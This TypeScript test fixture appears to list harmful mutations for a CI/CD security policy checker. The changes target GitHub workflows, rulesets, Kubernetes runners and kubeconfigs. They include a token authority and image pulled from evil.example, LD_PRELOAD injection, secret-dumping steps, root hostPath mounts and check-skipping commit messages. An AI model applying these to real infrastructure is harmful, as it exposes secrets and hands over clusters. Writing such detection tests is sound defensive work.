/**
 * A second outsider's harmful changes, of the same kinds: what leads where a value that people take for words, for order or for less is none. Which policy
 * notices is not said; a mandatory one has to.
 */
import { alter, gone, weaken, type Mutation } from "../../../policy/mutations/mutation";
import type { SubjectOptions } from "../../../policy/kit/rule";

const any = "any";
const file = (name: string): string => `RepositoryFile workflows-.github/${name}`;
const workflow = (name: string): string => file(`workflows/${name}`);
const main = "RepositoryRuleset protection-main";
const mirrors = "RepositoryRuleset protection-mirrors";
const gpuRunner = "Release runners-tester-amd64-gpu-release";
const gpuPool = "AgentPool runner-cluster-pool-gpu1";
const testCluster = "ManagedCluster deployment-tests-aks-cluster";
const traffic = "NetworkPolicy runners-builder-amd64-traffic";
const pushRole = "Role identities-main-images-role";
const kubernetes = "kubernetes runner-cluster-kubernetes";
const stack = "Stack gpu-cicd-prod";
/** A change that says of itself what it does: two closures of one text are two changes. */
const named = <Change extends (before: never) => unknown>(what: string, change: Change): Change => Object.assign(change, { toString: () => what });
const plus = (...items: readonly unknown[]): ((list: readonly unknown[]) => readonly unknown[]) =>
  named(`plus ${JSON.stringify(items)}`, (list) => [...list, ...items]);
const inserted = (at: RegExp, change: (found: string, indent: string) => string): ((content: string) => string) =>
  named(`with ${JSON.stringify(change("", ""))} at ${at}`, (content) => content.replace(at, change));
const timeouts = (target: string, what: string, customTimeouts: SubjectOptions["customTimeouts"]): readonly Mutation[] =>
  alter(any, target, `option ${what}`, ({ options }) => ({ options: { ...options, customTimeouts } }));

/** Words that are none: a message that keeps workflows from running, a name by which runs cancel each other. */
const words: readonly Mutation[] = [
  ...weaken(any, workflow("pr.yaml"), "commitMessage", "Update [skip ci]", "Update\n\nskip-checks: true", "Update [no ci]"),
  ...weaken(any, workflow("pr.yaml"), "content name", "Nightly", "${{ github.event.head_commit.message }}"),
  ...weaken(any, workflow("dynamo-status-check.yml"), "content name", "pr", "ci-test-suite"),
  ...weaken(any, workflow("pre-commit.yml"), "content jobs pre-commit steps 1 name", "${{ toJSON(secrets) }}", "${{ github.token }}"),
  ...weaken(any, pushRole, "description", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "ghp_0123456789abcdef0123456789abcdef0123"),
  ...weaken(any, "Repository registries-images", "tags note", "AKIAIOSFODNN7EXAMPLE"),
  ...weaken(any, "UserAssignedIdentity identities-apply-identity", "tags token", "github_pat_11AAAAAAA0123456789_abcdefghijklmnopqrstuvwxyz"),
  ...weaken(any, workflow("pre-commit.yml"), "content", (text: string) => `# zizmor: ignore[template-injection]\n${text}`),
  ...weaken(any, workflow("pr.yaml"), "content", inserted(/^jobs:/m, (found) => `# actionlint-disable\n${found}`)),
];

/** What judges: jobs, their conditions, what they wait for. */
const judging: readonly Mutation[] = [
  ...weaken(any, workflow("pr.yaml"), "content jobs backend-status-check needs", ["plan"], (list: readonly unknown[]) => list.slice(1)),
  ...weaken(any, workflow("pr.yaml"), "content jobs backend-status-check if", "success()", gone),
  ...weaken(any, workflow("pr.yaml"), "content jobs plan outputs jobs", "[]"),
  ...weaken(any, workflow("pr.yaml"), "content concurrency cancel-in-progress", true, false),
  ...weaken(any, workflow("pr.yaml"), "content concurrency group", "everything"),
  ...weaken(any, workflow("pr.yaml"), "content on push branches", ["main"], plus("**")),
  ...weaken(any, workflow("pr.yaml"), "content on push paths", ["docs/**"]),
  ...weaken(any, workflow("pr.yaml"), "content on workflow_dispatch", { inputs: { run: { type: "string" } } }),
  ...weaken(any, workflow("pre-commit.yml"), "content on pull_request types", ["closed"]),
  ...weaken(any, workflow("pre-commit.yml"), "content jobs pre-commit strategy", { matrix: { os: [] } }),
  ...weaken(any, workflow("pre-commit.yml"), "content jobs pre-commit steps 0 uses", "docker://evil.example/checkout@sha256:0"),
  ...weaken(any, workflow("pre-commit.yml"), "content jobs pre-commit steps 1 if", "failure()"),
  ...weaken(any, workflow("pre-commit.yml"), "content jobs extra", { "runs-on": "ubuntu-24.04", name: "pre-commit", steps: [{ run: "true" }] }),
  ...weaken(any, workflow("image.yml"), "content jobs test", gone),
  ...weaken(any, workflow("ci-test-suite.yml"), "content jobs ci-test-suite-status needs", ["plan"]),
  ...weaken(any, workflow("ci-test-suite.yml"), "content jobs notify", gone),
  ...weaken(any, workflow("deployment-test.yml"), "content jobs deploy environment", "main-images"),
  ...weaken(any, file("ci/azure.mjs"), "content", (text: string) => text.replace("https://", "http://")),
  ...weaken(any, file("ci/deployment-namespace.json"), "content", "{}"),
  ...weaken(any, file("ci/notify.mjs"), "content", (text: string) => `${text}\nconsole.log(process.env);\n`),
  ...weaken(any, file("actionlint.yaml"), "content", "paths: { '**': { ignore: ['.*'] } }\n"),
];

/** Rules that look like more protection and end every merge, or hand it to somebody. */
const rules: readonly Mutation[] = [
  ...weaken(any, main, "rules mergeQueue", { mergeMethod: "MERGE", groupingStrategy: "HEADGREEN", minEntriesToMerge: 1 }),
  ...weaken(any, main, "rules update", true),
  ...weaken(any, main, "rules creation", true),
  ...weaken(any, main, "rules requiredDeployments", { requiredDeploymentEnvironments: ["pull-request-images"] }),
  ...weaken(any, main, "rules branchNamePattern", { operator: "starts_with", pattern: "nobody" }),
  ...weaken(any, main, "rules requiredStatusChecks requiredChecks", plus({ context: "nobody-reports-this", integrationId: 15368 }), plus({ context: "DCO" })),
  ...weaken(any, main, "rules requiredStatusChecks doNotEnforceOnCreate", false),
  ...weaken(any, main, "rules pullRequest dismissStaleReviewsOnPush", false),
  ...weaken(any, main, "rules pullRequest requireLastPushApproval", false),
  ...weaken(any, main, "rules pullRequest requiredApprovingReviewCount", 0, -1),
  ...weaken(any, main, "conditions refName excludes", ["refs/heads/main"], plus("~DEFAULT_BRANCH")),
  ...weaken(any, main, "target", "tag"),
  ...weaken(any, main, "enforcement", "evaluate"),
  ...weaken(any, main, "bypassActors 0 actorId", 5),
  ...weaken(any, mirrors, "bypassActors", plus({ actorId: 0, actorType: "DeployKey", bypassMode: "always" })),
  ...weaken(any, mirrors, "rules creation", gone),
  ...weaken(any, "ActionsRepositoryPermissions repository-actions", "enabled", false),
  ...weaken(any, "ActionsRepositoryPermissions repository-actions", "shaPinningRequired", false),
  ...weaken(any, "RepositoryEnvironment repository-infra-prod-apply", "reviewers", gone, []),
  ...weaken(any, "RepositoryEnvironment repository-infra-prod-apply", "preventSelfReview", false),
  ...weaken(any, "RepositoryEnvironmentDeploymentPolicy repository-main-images-main", "branchPattern", "*", "main*"),
  ...weaken(any, "RepositoryEnvironmentDeploymentPolicy repository-release-images-release/*", "tagPattern", "v*"),
  ...weaken(any, "ActionsRunnerGroup repository-group-dynamo-testers", "allowsPublicRepositories", false),
  ...weaken(any, "ActionsRunnerGroup repository-group-dynamo-testers", "visibility", "all"),
];

/** Less that is nothing: required checks wait for ever. More that is without end. */
const bounds: readonly Mutation[] = [
  ...weaken(any, gpuRunner, "values maxRunners", 0, -1, "0"),
  ...weaken(any, gpuPool, "maxCount", 0, -1),
  ...weaken(any, gpuPool, "minCount", 4),
  ...weaken(any, gpuPool, "enableAutoScaling", false),
  ...weaken(any, gpuPool, "mode", "System"),
  ...weaken(any, gpuPool, "scaleSetPriority", "Spot"),
  ...weaken(any, gpuPool, "nodeLabels", { stranger: "x" }),
  ...weaken(any, gpuPool, "nodeTaints", [], plus("CriticalAddonsOnly=true:NoExecute")),
  ...weaken(any, gpuPool, "osDiskSizeGB", 0, 30),
  ...weaken(any, pushRole, "maxSessionDuration", 0),
  ...weaken(any, "RepositoryEnvironment repository-main-images", "waitTimer", 43200),
  ...weaken(any, "LifecyclePolicy registries-images-lifecycle", "policy rules 0 selection countNumber", 0),
  ...weaken(any, "LifecyclePolicy registries-images-lifecycle", "policy rules 0 action type", "keep"),
  ...weaken(any, "BucketLifecycleConfiguration caches-sccache-lifecycle", "rules 0 status", "Disabled"),
  ...weaken(any, "ResourceQuota runners-tester-amd64-gpu-quota", "spec hard", {}),
  ...weaken(any, "LimitRange runners-builder-amd64-limits", "spec limits", []),
  ...weaken(any, testCluster, "apiServerAccessProfile authorizedIPRanges", [], gone, ["0.0.0.0/0"]),
  ...weaken(any, testCluster, "disableLocalAccounts", false),
  ...weaken(any, testCluster, "agentPoolProfiles 0 count", 500),
  ...weaken(any, testCluster, "securityProfile workloadIdentity enabled", false),
  ...weaken(any, "MaintenanceConfiguration runner-cluster-maintenance-aksManagedAutoUpgradeSchedule", "maintenanceWindow durationHours", 24),
];

/** Traffic and pods. */
const traffics: readonly Mutation[] = [
  ...weaken(any, traffic, "spec policyTypes", ["Ingress"], []),
  ...weaken(any, traffic, "spec ingress", [{}]),
  ...weaken(any, traffic, "spec egress", [{}]),
  ...weaken(any, traffic, "spec egress 0 to", gone),
  ...weaken(any, traffic, "metadata namespace", "default"),
  ...weaken(any, gpuRunner, "values template spec containers 0 image", "ghcr.io/actions/actions-runner:latest"),
  ...weaken(any, gpuRunner, "values githubConfigUrl", "https://github.com/stranger/x"),
  ...weaken(any, gpuRunner, "values runnerGroup", "Default"),
  ...weaken(any, gpuRunner, "values minRunners", 8),
  ...weaken(any, gpuRunner, "valueYamlFiles", [{ path: "evil.yaml" }]),
  ...weaken(any, gpuRunner, "skipCrds", true),
  ...weaken(any, gpuRunner, "atomic", false),
  ...weaken(any, "Release runners-controller", "values flags watchSingleNamespace", "default"),
  ...weaken(any, "ConfigMap runners-tester-amd64-gpu-job-pod", "data job.yaml spec hostNetwork", true),
  ...weaken(any, "ConfigMap runners-tester-amd64-gpu-job-pod", "data job.yaml spec volumes", [{ name: "x", hostPath: { path: "/" } }]),
  ...weaken(any, "CronJob runners-job-cleaner-job", "spec schedule", "0 0 31 2 *"),
  ...weaken(any, "CronJob runners-job-cleaner-job", "spec jobTemplate spec template spec hostPID", true),
  ...weaken(any, "ClusterRoleBinding deployment-tests-guard-open-binding", "roleRef name", "cluster-admin"),
  ...weaken(any, "ValidatingAdmissionPolicy deployment-tests-guard-gpu-cicd-test-quota", "spec failurePolicy", "Ignore"),
  ...weaken(any, "ValidatingAdmissionPolicyBinding deployment-tests-guard-gpu-cicd-test-quota-binding", "spec validationActions", ["Audit"], ["Warn"]),
];

/** Where a provider logs in, how long the engine waits, and what the stack says of itself. */
const logins: readonly Mutation[] = [
  ...timeouts("ManagedCluster runner-cluster-cluster", "given up after a second", { create: 1, update: 1, delete: 1 }),
  ...timeouts("Registry registries-acr", "a deletion that waits for a day", { create: 0, update: 0, delete: 86_400 }),
  ...weaken(
    any,
    kubernetes,
    "kubeconfig",
    inserted(/^(\s*)- get-token\n/m, (found, indent) => `${found}${indent}- --authority-host\n${indent}- https://evil.example\n`),
    inserted(/^(\s*)command: kubelogin\n/m, (found, indent) => `${found}${indent}env: [{ name: LD_PRELOAD, value: /tmp/evil.so }]\n`),
    inserted(/^(\s*)exec:\n/m, (found, indent) => `${indent}token: secret\n${found}`),
    inserted(/^(\s*)exec:\n/m, (found, indent) => `${indent}as: system:admin\n${found}`),
    inserted(/^(\s*)server: /m, (found, indent) => `${indent}tls-server-name: evil.example\n${found}`),
  ),
  ...weaken(any, stack, "secretToken", "secret of HF_TOKEN"),
  ...weaken(any, stack, "azureClientIds apply", "00000000-1111-4222-8333-444444444444"),
  ...weaken(any, stack, "azureClientIds stranger", "x"),
];

export const again: Readonly<Record<string, readonly Mutation[]>> = { words, judging, rules, bounds, traffics, logins };
